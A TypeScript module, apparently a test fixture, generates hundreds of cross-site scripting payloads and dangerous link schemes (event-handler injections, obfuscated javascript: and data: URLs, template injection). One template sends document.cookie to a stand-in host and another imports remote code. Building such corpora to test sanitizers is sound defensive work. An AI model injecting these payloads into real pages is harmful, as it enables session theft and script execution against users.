/** More than five hundred texts that would run something if they were ever treated as markup or as an address; composed of our own parts. */
const doing = ['alert(1)', 'alert`1`', 'top["al"+"ert"](1)', 'import("//x.example")', 'fetch("//x.example?"+document.cookie)']
const tags = [
  'img src=x',
  'svg',
  'body',
  'video src=x',
  'audio src=x',
  'iframe',
  'input autofocus',
  'details open',
  'marquee',
  'select autofocus',
  'a href=#',
  'math',
]
const events = ['onerror', 'onload', 'onfocus', 'ontoggle', 'onpointerenter', 'onanimationstart']
const schemes = [
  'javascript:',
  'JaVaScRiPt:',
  ' javascript:',
  'java\tscript:',
  'java\nscript:',
  '\u0001javascript:',
  'javascript&colon;',
  'javascript&#58;',
  '&#106;avascript:',
  'vbscript:',
  'data:text/html,',
  'data:text/html;base64,',
  'data:image/svg+xml,',
  'blob:https://x.example/',
  'file:///',
  'view-source:',
  '//x.example/',
  '/\\x.example/',
  '\\\\x.example\\',
  'https:x.example',
  'https://',
  'https://user:word@x.example/',
  'http://x',
  'ht\u202etps://x.example/',
  'mailto:a@b@c?subject=',
  'tel:javascript:',
  'jar:https://x.example!/',
]
const closers = ['', '">', "'>", '-->', '</title>', '</textarea>', '</style>', '</script>', ']]>', '\u2028', '%00', '\\u003c']

export const hostileTexts: readonly string[] = [
  ...doing.flatMap((what) => closers.map((close) => `${close}<script>${what}</script>`)),
  ...tags.flatMap((tag) => events.flatMap((event) => doing.map((what) => `<${tag} ${event}=${what}>`))),
  ...closers.flatMap((close) => tags.map((tag) => `${close}<${tag}/onload=alert(1)//`)),
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '<style>@import "//x.example";</style>',
  '<p style="background:url(javascript:alert(1))">',
  '<base href=//x.example/>',
  '<meta http-equiv=refresh content="0;url=//x.example">',
  '<form action=javascript:alert(1)><button>',
  '<object data=data:text/html,<script>alert(1)</script>>',
]

/** The same as link addresses. */
export const hostileLinks: readonly string[] = schemes.flatMap((scheme) => ['alert(1)', '<script>alert(1)</script>', ''].map((rest) => scheme + rest))
